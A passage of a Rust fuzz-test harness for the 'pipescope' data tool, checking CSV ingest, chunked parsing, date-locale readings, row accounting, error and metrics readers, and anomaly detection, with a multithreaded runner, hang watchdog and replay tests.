        None => problems.push("no amount column".into()),
    }
    match column("date") {
        Some(c) => {
            let expected: Vec<f64> = (0..table.rows)
                .map(|i| {
                    let (y, m, d) = locale_date(i);
                    pipescope::core::time::calendar::days_from_civil(y, m, d) as f64 * 86_400.0
                })
                .collect();
            // Until a day past the 12th, 01/02/2024 reads either way: the more common
            // day-first reading is taken and month-first offered.
            let settled = table.rows > 12;
            let reading_ok = match (month_first, settled) {
                (false, _) => c.reading == Reading::DayFirst && c.other_reading.is_none(),
                (true, true) => c.reading == Reading::MonthFirst && c.other_reading.is_none(),
                (true, false) => {
                    c.reading == Reading::DayFirst && c.other_reading == Some(Reading::MonthFirst)
                }
            };
            let values_ok = match &c.data {
                // Read day-first as offered: the values are the swapped dates.
                ColumnData::Datetime(_) if month_first && !settled => true,
                ColumnData::Datetime(v) => v == &expected,
                _ => false,
            };
            if !reading_ok || !values_ok {
                problems.push(format!(
                    "date: {:?} reading {:?} (other {:?}), invalid {}",
                    c.kind, c.reading, c.other_reading, c.invalid
                ));
            }
        }
        None => problems.push("no date column".into()),
    }
    if !problems.is_empty() {
        failures.push(format!(
            "locale file read otherwise than written: {}",
            problems.join("; ")
        ));
    }
}

fn column_len(c: &ColumnData) -> usize {
    match c {
        ColumnData::Numeric(v) | ColumnData::Datetime(v) => v.len(),
        ColumnData::Boolean(v) => v.len(),
        ColumnData::Labels(d) => d.codes.len(),
    }
}

/// Ingest (whole and pushed in random chunks), then profile.
fn check_ingest(case: &Case, options: &IngestOptions, label: &str, failures: &mut Vec<String>) {
    let bytes = &case.bytes;
    let whole = ingest::read_bytes(bytes, options);
    let mut rng = SplitMix64::new(case.chunk_seed);
    let mut pushed = Ingest::new(options.clone());
    // Small chunks split records, quotes, CRLFs and UTF-8 sequences; a floor keeps a 1 MB
    // input to a few thousand pushes.
    let floor = bytes.len() / 4000;
    let mut rest = &bytes[..];
    let mut push_error = None;
    while !rest.is_empty() {
        let size = if chance(&mut rng, 0.5) {
            1 + rng.below(16) as usize
        } else {
            1 + rng.below(70_000) as usize
        };
        let (chunk, tail) = rest.split_at(size.max(floor).min(rest.len()));
        if let Err(e) = pushed.push(chunk) {
            push_error = Some(e);
            break;
        }
        rest = tail;
    }
    let chunked = match push_error {
        Some(e) => Err(e),
        None => pushed.finish(),
    };
    match (&whole, &chunked) {
        (Ok(a), Ok(b)) => {
            if let Err(d) = same_table(a, b) {
                failures.push(format!(
                    "ingest ({label}): pushed in chunks, the table differs: {d}"
                ));
            }
        }
        (Err(a), Err(b)) if a == b => {}
        (a, b) => failures.push(format!(
            "ingest ({label}): read whole {:?}, pushed in chunks {:?}",
            a.as_ref().map(|t| t.rows).map_err(ToString::to_string),
            b.as_ref().map(|t| t.rows).map_err(ToString::to_string)
        )),
    }
    let table = match whole {
        Ok(t) => t,
        Err(e) => {
            check_message(&format!("ingest ({label}) error"), &e.to_string(), failures);
            return;
        }
    };
    if label == "default options"
        && case.what.starts_with("synthetic locale")
        && !case.what.contains("; ")
    {
        locale_oracle(&table, case.what.contains("month-first"), failures);
    }
    let quoting = options.literal_quotes_from().is_none();
    // Ingest strips a second BOM at the start too (as csv-core did when ingest stripped
    // the first): a line holding only the two is blank there, a one-cell record to csv.
    const BOM: &[u8] = b"\xEF\xBB\xBF";
    let body = bytes
        .strip_prefix(BOM)
        .map_or(&bytes[..], |b| b.strip_prefix(BOM).unwrap_or(b));
    let records = csv_records(body, table.dialect.delimiter, quoting);
    let expected = records.saturating_sub(u64::from(table.dialect.has_header));
    let accounted = (table.rows + table.skipped.count) as u64;
    if accounted != expected {
        failures.push(format!(
            "ingest ({label}): silent row loss: {} rows read + {} skipped = {accounted}, but the \
             file holds {expected} data records (csv crate, delimiter 0x{:02X}, header {})",
            table.rows, table.skipped.count, table.dialect.delimiter, table.dialect.has_header
        ));
    }
    if let Some(c) = table
        .columns
        .iter()
        .find(|c| column_len(&c.data) != table.rows)
    {
        failures.push(format!(
            "ingest ({label}): column '{}' holds {} cells for {} rows",
            c.name.chars().take(80).collect::<String>(),
            column_len(&c.data),
            table.rows
        ));
    }
    if table.row_lines().len() != table.rows {
        failures.push(format!(
            "ingest ({label}): row_lines() is not one line a row"
        ));
    }
    let json = profile::profile(&table).to_json();
    if serde_json::from_str::<serde_json::Value>(&json).is_err() {
        failures.push(format!("profile ({label}): to_json() is not JSON"));
    }
}

/// The Errors reader and engine, as `pipescope errors` runs them.
fn check_errors(case: &Case, failures: &mut Vec<String>) {
    let bytes = &case.bytes;
    let literal = chance(&mut SplitMix64::new(case.chunk_seed ^ 1), 0.1);
    let options = errors::ReadOptions {
        literal_quotes_from: literal.then_some(1),
        ..errors::ReadOptions::default()
    };
    let stream = match errors::read_bytes(bytes, &options) {
        Ok(s) => s,
        Err(e) => {
            check_message("errors reader error", &e.to_string(), failures);
            return;
        }
    };
    let records = csv_records(bytes, b',', !literal);
    let expected = records.saturating_sub(u64::from(stream.has_header));
    let accounted = (stream.events.len() + stream.skipped) as u64;
    if accounted != expected {
        failures.push(format!(
            "errors reader: silent row loss: {} events + {} skipped = {accounted}, but the file \
             holds {expected} data records (header {})",
            stream.events.len(),
            stream.skipped,
            stream.has_header
        ));
    }
    for p in stream.problems.iter().take(5) {
        check_message(
            "errors reader skipped-row problem",
            &p.to_string(),
            failures,
        );
    }
    let config = errors::Config::for_stream(&stream);
    match errors::analyze(&stream, config) {
        Ok(engine) => {
            for alert in engine.alerts() {
                let _ = errors::alert_json(alert, &stream.codes);
                let _ = errors::alert_text(alert, &stream.codes);
            }
        }
        Err(e) => check_message("errors engine config", &e.to_string(), failures),
    }
}

/// Points a case may run through the detector (it is the slowest analysis).
const DETECT_POINTS: usize = 20_000;

/// The replay reader of detect, incidents and the Monitor, then detection and incidents.
fn check_metrics(case: &Case, ingest_rows: Option<usize>, failures: &mut Vec<String>) {
    // What starts with `{` is a Prometheus response to every reader that takes one.
    let json = case.bytes.iter().find(|b| !b.is_ascii_whitespace()) == Some(&b'{');
    let ingest_rows = ingest_rows.filter(|_| !json);
    let read = if json {
        source::read_prometheus_json(&case.bytes)
    } else {
        source::read_metrics_csv(&case.bytes, None)
    };
    let table = match read {
        Ok(t) => t,
        Err(e) => {
            check_message("metrics reader error", &e.to_string(), failures);
            return;
        }
    };
    if !table.times_ms.windows(2).all(|w| w[0] < w[1]) {
        failures.push("metrics reader: times not strictly ascending".into());
    }
    if table.names.len() != table.columns.len()
        || table
            .columns
            .iter()
            .any(|c| c.len() != table.times_ms.len())
    {
        failures.push("metrics reader: columns and times of different lengths".into());
    }
    if let Some(rows) = ingest_rows {
        if table.times_ms.len() > rows {
            failures.push(format!(
                "metrics reader: {} times from {rows} rows",
                table.times_ms.len()
            ));
        }
    }
    for note in &table.notes {
        check_message("metrics reader note", &note.message, failures);
    }
    if table.times_ms.len() * table.names.len() > DETECT_POINTS {
        return;
    }
    let config = DetectConfig::default();
    let mut evidence = Vec::new();
    for (series, values) in table.columns.iter().enumerate() {
        match detect_series(&config, &table.times_ms, values) {
            Ok(points) => evidence.extend(points.iter().filter_map(|p| p.evidence(series as u32))),
            Err(e) => failures.push(format!("detect: default config refused: {e}")),
        }
    }
    evidence.sort_by_key(|e| (e.t_ms, e.series));
    let mut engine = IncidentEngine::new(IncidentConfig::default(), table.names.clone())
        .expect("default incident config");
    for e in &evidence {
        engine.advance_to(e.t_ms);
        engine.apply(e);
    }
    if let Some(last) = table.times_ms.last() {
        engine.advance_to(*last);
    }
    for incident in engine.incidents() {
        let _ = serde_json::to_string(incident);
    }
}

/// Every reader and analysis over one case; the problems found. `timed` prints how long
/// each took (for replays).
fn run_case(case: &Case, timed: bool) -> Vec<String> {
    let mut failures = Vec::new();
    let mut clock = Instant::now();
    let mut lap = |what: &str| {
        if timed {
            eprintln!("fuzz:   {what}: {:.1?}", clock.elapsed());
        }
        clock = Instant::now();
    };
    check_ingest(
        case,
        &IngestOptions::default(),
        "default options",
        &mut failures,
    );
    lap("ingest and profile");
    if case.options != IngestOptions::default() {
        check_ingest(case, &case.options, &case.options_what, &mut failures);
        lap(&format!("ingest and profile, {}", case.options_what));
    }
    let rows = ingest::read_bytes(&case.bytes, &IngestOptions::default())
        .ok()
        .map(|t| t.rows);
    lap("ingest again");
    check_errors(case, &mut failures);
    lap("errors reader and engine");
    check_metrics(case, rows, &mut failures);
    lap("metrics reader, detect and incidents");
    failures
}

// ---------------------------------------------------------------------------------------
// The runner: workers on every core, a watchdog for hangs.

fn failure_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("target/fuzz-failures")
}

/// Writes the case's input for replay; returns where.
fn save(case: &Case) -> String {
    let dir = failure_dir();
    let path = dir.join(format!("{:016x}.csv", case.seed));
    match std::fs::create_dir_all(&dir).and_then(|()| std::fs::write(&path, &case.bytes)) {
        Ok(()) => path.display().to_string(),
        Err(e) => format!("(could not write {}: {e})", path.display()),
    }
}

fn report(case: &Case, problem: &str) -> String {
    let input = save(case);
    let replay = if case.from_file {
        format!("PIPESCOPE_FUZZ_FILE={input}")
    } else {
        format!("PIPESCOPE_FUZZ_REPLAY=0x{:016x}", case.seed)
    };
    format!(
        "case seed 0x{:016x} ({}; ingest also with {}; {} bytes): {problem}\n  input: {input}\n  \
         replay: {replay} cargo test --release --test fuzz replay -- --ignored",
        case.seed,
        case.what,
        case.options_what,
        case.bytes.len(),
    )
}

/// Runs one case on this thread under the panic catcher and the memory bound.
fn guarded(case: &Case, timed: bool) -> Vec<String> {
    let _ = CASE.try_with(|c| c.set(case.seed));
    let start_live = LIVE.with(Cell::get);
    PEAK.with(|p| p.set(start_live));
    CAP.with(|c| c.set(start_live + memory_cap(case.bytes.len())));
    IN_CASE.with(|c| c.set(true));
    let result = std::panic::catch_unwind(AssertUnwindSafe(|| run_case(case, timed)));
    IN_CASE.with(|c| c.set(false));
    CAP.with(|c| c.set(isize::MAX));
    let peak = PEAK.with(Cell::get) - start_live;
    let mut failures = match result {
        Ok(f) => f,
        Err(payload) => {
            let message = payload
                .downcast_ref::<&str>()
                .map(|s| s.to_string())
                .or_else(|| payload.downcast_ref::<String>().cloned())
                .unwrap_or_else(|| "(no message)".into());
            let at = LAST_PANIC
                .with(|p| p.borrow_mut().take())
                .unwrap_or_default();
            vec![format!(
                "panic: {}{at}",
                message.chars().take(500).collect::<String>()
            )]
        }
    };
    let budget = memory_budget(case.bytes.len());
    if peak > budget {
        failures.push(format!(
            "peak memory {} MB, over the bound of {} MB for {} input bytes",
            peak >> 20,
            budget >> 20,
            case.bytes.len()
        ));
    }
    failures
}

fn install_panic_hook() {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        let default = std::panic::take_hook();
        std::panic::set_hook(Box::new(move |info| {
            if IN_CASE.try_with(Cell::get).unwrap_or(false) {
                // Reported with the case's seed instead of printed here.
                let at = info
                    .location()
                    .map(|l| format!(" at {}:{}", l.file(), l.line()))
                    .unwrap_or_default();
                let _ = LAST_PANIC.try_with(|p| *p.borrow_mut() = Some(at));
            } else {
                default(info);
            }
        }));
    });
}

/// Per-worker: seed of the running case and when it started (ms since the run began;
/// 0 = idle).
struct Slot {
    seed: AtomicU64,
    started_ms: AtomicU64,
}

/// Runs `cases` cases from `base` on every core; panics with a report of the failures.
fn run(base: u64, cases: u64, progress: bool) {
    install_panic_hook();
    let began = Instant::now();
    let _ = datasets();
    let workers = std::thread::available_parallelism()
        .map_or(2, |n| n.get())
        .min(8);
    let next = Arc::new(AtomicU64::new(0));
    let failures: Arc<Mutex<Vec<String>>> = Arc::new(Mutex::new(Vec::new()));
    let stop = Arc::new(AtomicBool::new(false));
    let done = Arc::new(AtomicUsize::new(0));
    let slowest: Arc<Mutex<Vec<(Duration, String)>>> = Arc::new(Mutex::new(Vec::new()));
    let slots: Arc<Vec<Slot>> = Arc::new(
        (0..workers)
            .map(|_| Slot {
                seed: AtomicU64::new(0),
                started_ms: AtomicU64::new(0),
            })
            .collect(),
    );
    let mut handles = Vec::new();
    for w in 0..workers {
        let slowest = slowest.clone();
        let (next, failures, stop, done, slots) = (
            next.clone(),
            failures.clone(),
            stop.clone(),
            done.clone(),
            slots.clone(),
        );
        handles.push(std::thread::spawn(move || loop {
            let i = next.fetch_add(1, Ordering::Relaxed);
            if i >= cases || stop.load(Ordering::Relaxed) {
                break;
            }
            let case = make_case(case_seed(base, i));
            slots[w].seed.store(case.seed, Ordering::Relaxed);
            slots[w]
                .started_ms
                .store(began.elapsed().as_millis() as u64 + 1, Ordering::Release);
            let t0 = Instant::now();
            let found = guarded(&case, false);
            let took = t0.elapsed();
            slots[w].started_ms.store(0, Ordering::Release);
            {
                let mut s = slowest.lock().unwrap();
                if s.len() < 3 || took > s[s.len() - 1].0 {
                    s.push((took, format!("0x{:016x} ({})", case.seed, case.what)));
                    s.sort_by(|a, b| b.0.cmp(&a.0));
                    s.truncate(3);
                }
            }
            if !found.is_empty() {
                let mut all = failures.lock().unwrap();
                all.push(report(&case, &found.join("\n    ")));
                if all.len() >= MAX_FAILURES {
                    stop.store(true, Ordering::Relaxed);
                }
            }
            let n = done.fetch_add(1, Ordering::Relaxed) + 1;
            if progress && n % 10_000 == 0 {
                eprintln!("fuzz: {n} cases in {:.0?}", began.elapsed());
            }
        }));
    }
    // The watchdog: a case past its time is a hang. Its thread cannot be stopped, so the
    // run fails now and leaves it to the end of the process.
    loop {
        if handles.iter().all(|h| h.is_finished()) {
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
        let now = began.elapsed().as_millis() as u64;
        for slot in slots.iter() {
            let started = slot.started_ms.load(Ordering::Acquire);
            if started != 0 && now.saturating_sub(started) > CASE_SECONDS * 1000 {
                let case = make_case(slot.seed.load(Ordering::Relaxed));
                panic!(
                    "fuzz: {}",
                    report(
                        &case,
                        &format!("hang: still running after {CASE_SECONDS} s")
                    )
                );
            }
        }
    }
    for h in handles {
        h.join().expect("fuzz worker");
    }
    let failures = failures.lock().unwrap();
    let ran = done.load(Ordering::Relaxed);
    eprintln!(
        "fuzz: {ran} cases from seed {base} in {:.1?} on {workers} threads, {} failing",
        began.elapsed(),
        failures.len()
    );
    for (took, case) in slowest.lock().unwrap().iter() {
        eprintln!("fuzz: slow case {took:.1?}: {case}");
    }
    assert!(
        failures.is_empty(),
        "fuzz: {} failing case(s):\n{}",
        failures.len(),
        failures.join("\n")
    );
}

fn env_u64(name: &str) -> Option<u64> {
    let v = std::env::var(name).ok()?;
    let v = v.trim().replace('_', "");
    let parsed = match v.strip_prefix("0x") {
        Some(hex) => u64::from_str_radix(hex, 16),
        None => v.parse(),
    };
    Some(parsed.unwrap_or_else(|_| panic!("{name}={v} is not a number")))
}

/// The bounded run of `make test`.
#[test]
fn bounded() {
    run(
        BOUNDED_SEED,
        env_u64("PIPESCOPE_FUZZ_BOUNDED_CASES").unwrap_or(BOUNDED_CASES),
        false,
    );
}

/// The long run of `make fuzz`.
#[test]
#[ignore = "long; run by `make fuzz`"]
fn long() {
    let cases = env_u64("PIPESCOPE_FUZZ_CASES").unwrap_or(LONG_CASES);
    let seed = env_u64("PIPESCOPE_FUZZ_SEED").unwrap_or_else(|| {
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map_or(0, |d| d.as_secs())
    });
    eprintln!("fuzz: {cases} cases from seed {seed} (PIPESCOPE_FUZZ_SEED={seed} repeats this run)");
    run(seed, cases, true);
}

/// One case again: `PIPESCOPE_FUZZ_REPLAY=<case seed>` regenerates it, or
/// `PIPESCOPE_FUZZ_FILE=<path>` reads a saved input (with default options).
#[test]
#[ignore = "replays one case named by PIPESCOPE_FUZZ_REPLAY or PIPESCOPE_FUZZ_FILE"]
fn replay() {
    install_panic_hook();
    let case = if let Some(seed) = env_u64("PIPESCOPE_FUZZ_REPLAY") {
        make_case(seed)
    } else if let Ok(path) = std::env::var("PIPESCOPE_FUZZ_FILE") {
        Case {
            seed: 0,
            what: path.clone(),
            bytes: std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e}")),
            options: IngestOptions::default(),
            options_what: "default options".into(),
            chunk_seed: 1,
            from_file: true,
        }
    } else {
        panic!("set PIPESCOPE_FUZZ_REPLAY=<case seed> or PIPESCOPE_FUZZ_FILE=<path>");
    };
    eprintln!("fuzz: replaying {} ({} bytes)", case.what, case.bytes.len());
    let began = Instant::now();
    let failures = guarded(&case, true);
    eprintln!("fuzz: {:.1?}", began.elapsed());
    assert!(
        failures.is_empty(),
        "{}",
        report(&case, &failures.join("\n    "))
    );
}

/// The harness itself: cases are deterministic, and the independent count is the one the
/// documented rules give (blank lines are no records, a BOM is no data).
#[test]
fn cases_repeat_and_the_oracle_counts_records() {
    let a = make_case(case_seed(7, 3));
    let b = make_case(case_seed(7, 3));
    assert_eq!((a.what.as_str(), &a.bytes), (b.what.as_str(), &b.bytes));
    assert_eq!(
        csv_records(b"\xEF\xBB\xBFa,b\n\n1,2\r\n\r\n3,4", b',', true),
        3
    );
    assert_eq!(csv_records(b"a,b\n1,\"x\ny\"\n", b',', true), 2);
    assert_eq!(csv_records(b"a,b\n1,\"x\ny\"\n", b',', false), 3);
}
